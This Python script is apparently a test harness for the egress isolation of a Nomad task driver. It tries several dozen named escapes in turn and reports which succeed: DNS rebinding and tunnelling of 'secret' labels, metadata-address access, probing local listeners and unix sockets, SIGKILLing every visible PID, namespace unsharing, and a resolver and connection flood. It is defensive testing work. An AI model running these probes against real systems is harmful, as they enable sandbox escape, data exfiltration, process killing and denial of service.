# Copyright (c) The nomad-driver-harn authors
# SPDX-License-Identifier: MPL-2.0

# Attacks on a task's egress, one after the other. Each prints "NAME OK" if it has got
# through, "NAME REASON" if not. What has got through, the other side says, or the
# test that this runs in has seen.
import ctypes, os, random, select, signal, socket, struct, sys, threading, time

SERVICE, OTHER, DNS, UDP = (int(a) for a in sys.argv[1:5])
socket.setdefaulttimeout(5)


def read(s):
    data = b""
    try:
        while chunk := s.recv(4096):
            data += chunk
    except OSError:
        pass
    return data.decode().strip()


def reach(host, port=SERVICE):
    with socket.create_connection((host, port)) as s:
        said = read(s)
    if not said:
        raise OSError("reset")
    return said


def query(name, kind=1, extra=b""):
    labels = b"".join(bytes([len(l)]) + l for l in name if l)
    return struct.pack(">HHHHHH", random.randrange(65536), 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1) + extra


def ask_udp(server, packet, port=53):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(1)
        s.connect((server, port))
        s.send(packet)
        return s.recv(4096)


def ask_tcp(server, packet, port=53):
    with socket.create_connection((server, port)) as s:
        s.settimeout(1)
        s.sendall(struct.pack(">H", len(packet)) + packet)
        if not (said := s.recv(4096)):
            raise OSError("closed")
        return said


def rebinding():
    for _ in range(30):
        try:
            if reach("rebinding.admitted.example") == "127.0.0.1":
                return
        except OSError:
            pass
    raise OSError("never")


def fast_open():
    with socket.socket() as s:
        s.settimeout(None)
        s.sendto(b"x", socket.MSG_FASTOPEN, ("203.0.113.9", SERVICE))
        if not read(s):
            raise OSError("reset")


def mptcp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.connect(("203.0.113.9", SERVICE))
        if not read(s):
            raise OSError("reset")


def zone():
    info = socket.getaddrinfo("fe80::9%lo", SERVICE, type=socket.SOCK_STREAM)[0]
    with socket.socket(socket.AF_INET6) as s:
        s.connect(info[4])


def send_udp(to):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"out by UDP", (to, UDP))


def forwarder_ports():
    found = []
    for file in "/proc/net/tcp", "/proc/net/tcp6":
        for line in open(file).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                found.append(int(fields[1].rsplit(":")[1], 16))
    for port in found:
        for host in "127.0.0.1", "::1":
            if port != 53:
                try:
                    return reach(host, port)
                except OSError:
                    pass
    raise OSError("reset")


def kill_forwarder():
    hit = False
    for pid in range(2, 300):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
                hit = True
            except OSError:
                pass
    if not hit:
        raise OSError("EPERM")


def unix_sockets():
    for line in open("/proc/net/unix").read().splitlines()[1:]:
        path = line.split()[-1]
        if path.startswith("@") or path.startswith("/"):
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(path.replace("@", "\0", 1))
                return
    raise OSError("none")


def new_namespace():
    # One of its own has no way out, either.
    if (child := os.fork()) == 0:
        try:
            libc = ctypes.CDLL(None, use_errno=True)
            if libc.unshare(0x10000000 | 0x40000000) != 0:
                os._exit(ctypes.get_errno())
            reach("203.0.113.9")
            os._exit(0)
        except OSError as e:
            os._exit(e.errno or 1)
    if status := os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]):
        raise OSError(status, os.strerror(status))


def flood():
    "Names, connections, and halves of questions, as many as it can."
    held = []
    def some(f, n):
        for i in range(n):
            try:
                held.append(f(i))
            except OSError:
                pass
    def slow(i):
        s = socket.create_connection(("127.0.0.1", 53))
        s.send(b"\1")
        return s
    def connection(i):
        return socket.create_connection(("admitted.example", SERVICE))
    def name(i):
        ask_udp("127.0.0.1", query([b"n%d" % i, b"admitted", b"example"]))
    def half(i):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(("198.18.%d.%d" % (i % 200, i % 250 + 2), SERVICE))
        return s
    def garbage(i):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(random.randbytes(random.randrange(600)), ("127.0.0.1", 53))
    threads = [threading.Thread(target=some, args=a) for a in ((slow, 100), (connection, 300), (name, 10000), (half, 300), (garbage, 2000))]
    for t in threads:
        t.start()
    print("flooding", flush=True)
    for t in threads:
        t.join()
    sys.stdin.read()
    raise OSError("no other task has noticed")


long = [b"a" * 63] * 3
attacks = {
    "egress_address": lambda: reach("203.0.113.9"),
    "egress_address_v6": lambda: reach("2001:db8::9"),
    "egress_address_mapped": lambda: reach("::ffff:203.0.113.9"),
    "egress_address_zone": zone,
    "egress_host_loopback": lambda: reach("127.0.0.1"),
    "egress_metadata": lambda: reach("169.254.169.254"),
    "egress_name": lambda: reach("other.example"),
    "egress_name_denied": lambda: reach("denied.admitted.example"),
    "egress_name_alias_of_denied": lambda: reach("alias.admitted.example"),
    "egress_name_alias_of_private": lambda: reach("inside.admitted.example"),
    "egress_name_loopback": lambda: reach("loopback.admitted.example"),
    "egress_name_metadata": lambda: reach("metadata.admitted.example"),
    "egress_name_zero": lambda: reach("zero.admitted.example"),
    "egress_name_private": lambda: reach("private.admitted.example"),
    "egress_name_mapped": lambda: reach("mapped.admitted.example"),
    "egress_name_of_node": lambda: reach("node.admitted.example"),
    "egress_port": lambda: reach("admitted.example", OTHER),
    "egress_rebinding": rebinding,
    "egress_resolver_udp": lambda: ask_udp("203.0.113.9", query([b"other", b"example"])),
    "egress_resolver_tcp": lambda: ask_tcp("203.0.113.9", query([b"other", b"example"])),
    "egress_tunnel": lambda: socket.getaddrinfo("secret.tunnel.example", 80),
    "egress_tunnel_txt": lambda: ask_udp(resolver, query([b"secret-txt", b"tunnel", b"example"], 16)),
    "egress_tunnel_tcp": lambda: ask_tcp(resolver, query([b"secret-tcp", b"tunnel", b"example"])),
    "egress_tunnel_dot": lambda: socket.getaddrinfo("Secret.Tunnel.Example.", 80),
    "egress_tunnel_long": lambda: ask_udp(resolver, query(long + [b"tunnel", b"example"])),
    "egress_tunnel_null": lambda: ask_udp(resolver, query([b"a\0b", b"tunnel", b"example"])),
    "egress_tunnel_idn": lambda: socket.getaddrinfo("bücher.tunnel.example", 80),
    "egress_udp": lambda: send_udp("203.0.113.9"),
    "egress_udp_synthetic": lambda: send_udp(socket.gethostbyname("admitted.example")),
    "egress_fast_open": fast_open,
    "egress_mptcp": mptcp,
    "egress_forwarder_ports": forwarder_ports,
    "egress_forwarder_kill": kill_forwarder,
    "egress_unix_sockets": unix_sockets,
    "egress_new_namespace": new_namespace,
    "egress_flood": flood,
}
resolver = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
for name in sys.argv[5:]:
    try:
        attacks[name]()
        answer = "OK"
    except Exception as e:
        answer = getattr(e, "strerror", None) or str(e) or type(e).__name__
    print(name, answer, flush=True)
try:
    print("sibling", reach("admitted.example"), flush=True)
except Exception as e:
    print("sibling fails:", e, flush=True)
